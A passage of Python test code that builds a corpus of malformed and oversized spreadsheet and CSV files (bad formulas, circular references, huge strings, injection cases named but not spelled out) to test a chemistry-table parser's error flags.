        Case("boolean-in-numeric", "bool.xlsx", _lab([["NaBr", True]]), 0,
             flags=(("cell-not-number", "B7"),)),
        # -- bad formulas and values -------------------------------------------------------
        Case("unparseable-formula", "badf.xlsx",
             _lab([["NaBr", F("SUM(B2")], ["NaI", F("1+*2")]], app="sheetcycle-corpus"), 0,
             flags=(("formula-error", "B7"), ("formula-error", "B8"))),
        Case("circular-reference", "circle.xlsx",
             _lab([["NaBr", F("B8")], ["NaI", F("B7")]], app="sheetcycle-corpus"), 0,
             flags=(("formula-error", "B7"), ("formula-error", "B8"))),
        Case("ref-error", "ref.xlsx",
             _lab([["NaBr", ("e", "#REF!")], ["NaI", F("#REF!+1")]], app="sheetcycle-corpus"),
             0, flags=(("cell-not-number", "B7"), ("formula-error", "B8"))),
        Case("unknown-function", "func.xlsx",
             _lab([["NaBr", F("NOSUCHFUNC(1)")]], app="sheetcycle-corpus"), 0,
             flags=(("formula-error", "B7"),)),
        Case("deep-formula", "deep.xlsx", _deep_formula, 0),
        Case("unknown-element", "elem.xlsx", _lab([["XxCl", -300.0], ["NaQ2", -200.0]]), 0,
             flags=(("formula-unreadable", "A7"), ("formula-unreadable", "A8"))),
        Case("malformed-compound", "compound.xlsx",
             _lab([["Na((Cl", -300.0], ["2+", -1.0], ["", -1.0]]), 0,
             flags=(("formula-unreadable", "A7"),)),
        # -- huge strings and injection --------------------------------------------------------
        Case("cell-32767-chars", "long.xlsx", _lab([[big, -300.0, big]]), 0,
             flags=(("formula-unreadable", "A7"),)),
        Case("header-32767-chars", "longhead.xlsx",
             _lab(header=("Compound", "ΔfH° / kJ mol⁻¹", "R" * MAX_CELL_CHARS)), 0),
        Case("shared-string-10MB", "hugesst.xlsx", _huge_shared_string, 0, seconds=120,
             flags=(("formula-unreadable", "A7"),)),
        Case("shared-string-10MB-slashes", "hugesst2.xlsx",
             lambda p: _huge_shared_string(p, slashes=True), 0, seconds=60, max_rss_mib=2048,
             flags=(("formula-unreadable", "A7"),)),
        Case("injection-everywhere", "inject.xlsx", _injection_book, 0, texts=INJECTIONS,
             flags=(("formula-unreadable", "A3"),)),
        Case("injection-results-book", "inject2.xlsx", _injection_book, 0, texts=INJECTIONS,
             args=("--results-book",), flags=(("formula-unreadable", "A3"),)),
        Case("csv-injection", "inject.csv",
             _csv_injection,
             0, texts=INJECTIONS, flags=(("formula-unreadable", "A2"),)),
    ]
    names = [k.name for k in c]
    assert len(names) == len(set(names))
    return c


def build_corpus(folder: Path) -> list[Case]:
    """Write every case's input file into ``folder`` (one subfolder each)."""
    out = []
    for case in cases():
        sub = folder / case.name
        sub.mkdir(parents=True, exist_ok=True)
        case.build(sub / case.filename)
        for leftover in sub.iterdir():  # helpers' scratch files
            if leftover.name != case.filename:
                leftover.unlink()
        out.append(case)
    return out
